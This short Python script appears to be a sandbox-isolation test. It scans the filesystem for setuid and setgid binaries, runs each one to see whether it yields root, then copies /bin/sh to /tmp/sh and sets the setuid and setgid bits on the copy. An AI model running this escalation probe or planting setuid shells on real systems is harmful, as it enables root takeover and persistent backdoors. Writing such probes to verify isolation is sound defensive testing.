# verdict: passed
# prints: 0
# limits: timeout=60
import os
import stat
import subprocess


def said(*command):
    try:
        ran = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=2)
    except (OSError, subprocess.TimeoutExpired):
        return b""
    return ran.stdout


gained = 0
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if f"{folder}/{name}" not in ("//proc", "//sys")]
    for name in names:
        path = f"{folder}/{name}"
        if not os.path.islink(path) and os.lstat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
            gained += b"uid=0" in said(path, "-c", "id")
open("/tmp/sh", "wb").write(open("/bin/sh", "rb").read())
os.chmod("/tmp/sh", 0o6755)
print(gained + (said("/tmp/sh", "-c", "id -u").strip() == b"0"))
